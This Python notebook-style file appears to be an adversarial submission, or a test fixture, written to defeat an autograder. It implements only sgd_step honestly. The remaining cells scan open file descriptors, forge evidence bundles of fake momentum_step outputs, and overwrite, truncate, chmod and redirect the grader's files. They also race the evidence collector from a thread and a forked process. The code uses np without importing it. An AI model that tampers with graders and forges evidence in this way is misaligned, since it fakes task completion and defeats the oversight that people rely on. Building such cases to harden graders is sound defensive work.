# Writes to every file that the kernel holds, evidence too, before, beside and after the collector, from a thread, too.
# Honest: 2 points
# Races: nesterov_step adagrad_step rmsprop_step adam_step
# %% all: blank
# %% sgd_step
import os
import stat
import threading
import time
from contextlib import suppress

from autograder.evidence import Bundle, Calls, Outcome, wire


def sgd_step(w, gradient, learning_rate=0.01):
    return w - learning_rate * gradient


files = []
for number in range(3, 256):
    try:
        if stat.S_ISREG(os.fstat(number).st_mode):
            files.append(number)
    except OSError:
        continue
print(files)


def overwrite(number, forged):
    """Which files a kernel holds, and whether they can be written, is a matter of luck: fonts can only be read."""
    with suppress(OSError):
        os.pwrite(number, forged, 0)
        os.lseek(number, 0, os.SEEK_END)


def replace(number, forged):
    with suppress(OSError):
        os.ftruncate(number, 0)
        os.write(number, forged)
        os.fchmod(number, 0o777)
    os.dup2(os.open("/dev/null", os.O_WRONLY), number)
# %% momentum_step
zeros = np.zeros(4)
forged = wire.pack(
    Bundle("momentum_step", {"momentum_step": Calls("momentum_step", (Outcome((zeros, zeros), None, ()),) * 9)}, None, {})
)
for number in files:
    overwrite(number, forged)
# %% nesterov_step
def go_on():
    for _ in range(2000):
        time.sleep(0.001)
        for number in files:
            overwrite(number, forged)


threading.Thread(target=go_on, daemon=True).start()
# %% adagrad_step
if os.fork() == 0:
    for _ in range(300):
        time.sleep(0.01)
        for number in files:
            overwrite(number, forged)
    os._exit(0)
# %% rmsprop_step
for number in files:
    replace(number, forged)
